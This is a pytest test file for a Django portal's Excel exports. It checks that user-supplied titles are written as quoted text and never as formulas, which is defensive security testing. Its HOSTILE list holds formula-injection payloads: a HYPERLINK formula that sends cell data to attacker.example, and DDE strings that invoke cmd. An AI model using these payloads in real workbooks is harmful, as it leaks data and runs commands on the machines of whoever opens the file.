"""Formula injection: every workbook the portal writes keeps user text as text, never as a formula."""

import datetime
import io
import pathlib
import re
import zipfile

import openpyxl
import pytest
from freezegun import freeze_time

from khuyencong import spreadsheets
from projects import excel, selectors
from projects.tests import factories
from provinces.models import ActivityContent
from reports import documents, services, snapshot
from reports.models import Report

pytestmark = pytest.mark.django_db

# Each begins with a character a spreadsheet program reads as the start of a formula.
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?d="&A2,"Xem chi tiết")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 máy sấy",
    "\r=1+1 máy sấy",
]


def _cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_text_only(content: bytes, expected: list[str]) -> None:
    """Each hostile text is in a cell stored as a string with the quote prefix; no cell anywhere is a formula."""
    cells = list(_cells(content))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode(), name  # no formula element in the XML itself
    # XML turns a carriage return into a line feed: the text otherwise reads back exactly as typed
    by_value = {cell.value.replace("\n", "\r") if isinstance(cell.value, str) else cell.value: cell for cell in cells}
    for text in expected:
        cell = by_value.get(text.replace("\n", "\r"))
        assert cell is not None, f"{text!r} not found"
        assert cell.data_type == "s" and cell.quotePrefix, (text, cell.data_type, cell.quotePrefix)


@pytest.fixture
def hostile_projects(tayninh_officer, tayninh_approver):
    with freeze_time("2026-03-01"):
        projects = [
            factories.approve(
                factories.make_project(by=tayninh_officer, title=title, location=title),
                officer=tayninh_officer,
                approver=tayninh_approver,
            )
            for title in HOSTILE
        ]
    return projects


def test_project_list_export_writes_hostile_titles_as_text(tayninh_officer, hostile_projects):
    content = excel.projects_to_xlsx(selectors.with_money(selectors.project_list_for(user=tayninh_officer)))
    assert_text_only(content, HOSTILE)
    numbers = [cell for cell in _cells(content) if cell.column_letter == "J" and cell.row > 1]
    assert numbers and all(cell.data_type == "n" for cell in numbers)  # amounts stay numbers


def test_report_workbook_writes_hostile_titles_as_text(reference_data, settings, hostile_projects):
    settings.REPORTS_PERIOD_KINDS = ["quarter"]
    settings.REPORTS_LOOKBACK_DAYS = 100
    with freeze_time("2026-11-28"):
        services.reports_sweep(today=datetime.date(2026, 11, 28))
        report = Report.objects.get(province=hostile_projects[0].province)
        report.snapshot = snapshot.build(report)
    content = documents.report_xlsx(report)
    assert_text_only(content, HOSTILE)
    assert "Đề án" in openpyxl.load_workbook(io.BytesIO(content)).sheetnames


def test_import_template_writes_reference_names_as_text(reference_data):
    activity = ActivityContent.objects.order_by("code").first()
    ActivityContent.objects.filter(pk=activity.pk).update(name_vi=HOSTILE[0])
    assert_text_only(excel.import_template(), [HOSTILE[0]])


def test_every_openpyxl_writer_goes_through_the_shared_module():
    """A new workbook writer that builds its own Workbook without khuyencong.spreadsheets fails here."""
    root = pathlib.Path(__file__).resolve().parents[2]
    shared = root / "khuyencong" / "spreadsheets.py"
    writers = []
    for app in (path for path in root.iterdir() if path.is_dir() and (path / "__init__.py").exists()):
        for path in app.rglob("*.py"):
            if "tests" in path.parts or "testing" in path.parts or path == shared:  # test fixtures build files
                continue
            source = path.read_text()
            if re.search(r"\bWorkbook\(", source):
                writers.append(path.relative_to(root).as_posix())
                assert "spreadsheets." in source, f"{path} writes a workbook without khuyencong.spreadsheets"
    assert any(writer.startswith("projects/") for writer in writers)
    assert "reports/documents.py" in writers


def test_text_cell_leaves_numbers_dates_and_plain_text_alone():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(spreadsheets.safe_row(sheet, ["Máy sấy", 12, datetime.date(2026, 1, 2), "=1+1"]))
    cells = list(_cells(spreadsheets.workbook_bytes(book)))
    assert [(c.data_type, bool(c.quotePrefix)) for c in cells] == [
        ("s", False),
        ("n", False),
        ("d", False),
        ("s", True),
    ]
